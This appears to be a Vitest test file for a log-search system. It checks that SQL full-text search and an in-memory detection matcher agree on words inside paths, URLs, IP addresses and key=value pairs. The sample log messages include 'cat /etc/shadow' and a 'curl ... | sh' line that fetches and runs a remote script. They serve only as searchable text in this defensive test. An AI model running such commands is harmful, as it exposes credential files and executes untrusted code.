/**
 * Bare words find words inside paths, URLs, addresses and key=value pairs,
 * and the database (generated `search` column + tsquery) agrees with the
 * in-memory matcher that detection rules use — on hand-picked cases and on
 * random texts and queries.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { resetDb, testDb } from "../setup/db";
import { ingestEvents } from "../../lib/ingest/pipeline";
import { emptyEvent, type StoredEvent } from "../../lib/events/types";
import { getEventsByIds, searchEvents } from "../../lib/search/events";
import { compileWhere } from "../../lib/search/query/compile-sql";
import { compileMatcher } from "../../lib/search/query/match";
import { parseQuery } from "../../lib/search/query/parse";
import { Prisma } from "../../lib/generated/prisma/client";

const db = testDb();
const CLUSTER = "words";
const MESSAGES = [
  "cat /etc/shadow",
  "shadow copy of etc",
  "GET https://api.example.com/v1/users?id=42&token=abc",
  "Failed password for root from 10.0.0.1 port 22 ssh2",
  "connect to 10.0.0.12:5432 refused",
  "user=mallory@evil.test action=login result=denied",
  "kube-system/coredns-5d78c9869d-abcde restarted",
  "FOO_BAR is set; snake_case_word",
  "Ñandú überprüft 日本語 ログ",
  "curl -sSL http://198.51.100.7/x.sh | sh",
];
let stored: StoredEvent[] = [];

beforeAll(async () => {
  await resetDb(db);
  const ts = Date.now() - 60_000;
  await ingestEvents(db, MESSAGES.map((message, i) => emptyEvent({ ts: new Date(ts + i), cluster: CLUSTER, layer: "container", source: "test", message, pod: `pod-${i}` })));
  const { rows } = await db.pool.query<{ id: string; ts: Date }>("SELECT id::text, ts FROM events WHERE cluster = $1", [CLUSTER]);
  stored = await getEventsByIds(db, rows);
  expect(stored).toHaveLength(MESSAGES.length);
});
afterAll(() => db.pool.end());

async function viaSql(q: string, cluster = CLUSTER): Promise<string[]> {
  const sql = Prisma.sql`SELECT e.id::text AS id FROM events e WHERE e.cluster = ${cluster} AND (${compileWhere(parseQuery(q))})`;
  const { rows } = await db.pool.query<{ id: string }>(sql.text, sql.values as unknown[]);
  return rows.map((r) => r.id).sort();
}
const viaMatcher = (q: string, events = stored) => {
  const m = compileMatcher(parseQuery(q));
  return events.filter((e) => m(e)).map((e) => e.id).sort();
};
const messagesFor = (ids: string[]) => stored.filter((e) => ids.includes(e.id)).map((e) => e.message).sort();

describe("full text over paths and addresses", () => {
  it.each([
    ["shadow", ["cat /etc/shadow", "shadow copy of etc"]],
    ["/etc/shadow", ["cat /etc/shadow"]],
    ["etc/shad*", ["cat /etc/shadow"]],
    ['"etc shadow"', ["cat /etc/shadow"]],
    ["example.com", ["GET https://api.example.com/v1/users?id=42&token=abc"]],
    ["token", ["GET https://api.example.com/v1/users?id=42&token=abc"]],
    ["10.0.0.1", ["Failed password for root from 10.0.0.1 port 22 ssh2"]],
    ["10.0.0.1*", ["Failed password for root from 10.0.0.1 port 22 ssh2", "connect to 10.0.0.12:5432 refused"]],
    ["mallory", ["user=mallory@evil.test action=login result=denied"]],
    ["result=denied", ["user=mallory@evil.test action=login result=denied"]],
    ["coredns", ["kube-system/coredns-5d78c9869d-abcde restarted"]],
    ["snake", ["FOO_BAR is set; snake_case_word"]],
    ["foo_bar", ["FOO_BAR is set; snake_case_word"]],
    ["überprüft", ["Ñandú überprüft 日本語 ログ"]],
    ["x.sh", ["curl -sSL http://198.51.100.7/x.sh | sh"]],
    ["198.51.100.7", ["curl -sSL http://198.51.100.7/x.sh | sh"]],
    ["100", []],
    ["10.0.0", []],
    ["pod 3", ["Failed password for root from 10.0.0.1 port 22 ssh2"]],
  ])("%s", async (q, want) => {
    const sql = await viaSql(q);
    expect(messagesFor(sql)).toEqual([...want].sort());
    expect(viaMatcher(q)).toEqual(sql);
  });

  it("the search API finds a word inside a path", async () => {
    const r = await searchEvents(db, { q: `cluster:${CLUSTER} shadow -copy`, from: "now-1h", to: "now+1m", limit: 10 });
    expect(r.events.map((e) => e.message)).toEqual(["cat /etc/shadow"]);
  });
});

describe("database and matcher agree on random texts and queries", () => {
  const word = fc.constantFrom("etc", "shadow", "var", "log", "10", "0", "1", "api", "kube", "system", "root", "ssh", "Ñandú", "ログ", "a");
  const sep = fc.constantFrom(" ", "/", ".", ":", "=", "-", "_", "@", "?", "&", ", ", "[", "]", '"', "'", "|", "\t");
  const text = fc.array(fc.tuple(word, sep), { minLength: 1, maxLength: 12 }).map((parts) => parts.map(([w, s]) => w + s).join(""));

  it("every bare, quoted and wildcard term selects the same events", async () => {
    const texts = fc.sample(text, { numRuns: 60, seed: 4242 });
    const cluster = "words-random";
    const ts = Date.now() - 30_000;
    await ingestEvents(db, texts.map((message, i) => emptyEvent({ ts: new Date(ts + i), cluster, layer: "node", source: "test", message })));
    const { rows } = await db.pool.query<{ id: string; ts: Date }>("SELECT id::text, ts FROM events WHERE cluster = $1", [cluster]);
    const events = await getEventsByIds(db, rows);
    const term = fc.tuple(fc.array(fc.tuple(word, sep), { minLength: 1, maxLength: 3 }), fc.constantFrom("bare", "quoted", "prefix")).map(([parts, kind]) => {
      const body = parts.map(([w, s], i) => (i === parts.length - 1 ? w : w + s)).join("").replace(/["\\\s|&?()[\]:'=@]/g, "/");
      if (kind === "quoted") return `"${body}"`;
      return kind === "prefix" ? `${body.slice(0, Math.max(1, body.length - 1))}*` : body;
    });
    let nonTrivial = 0;
    await fc.assert(
      fc.asyncProperty(term, async (q) => {
        const sql = await viaSql(q, cluster);
        expect(viaMatcher(q, events), q).toEqual(sql);
        if (sql.length > 0 && sql.length < events.length) nonTrivial++;
      }),
      { numRuns: 150, seed: 7 },
    );
    expect(nonTrivial).toBeGreaterThan(50);
  });
});
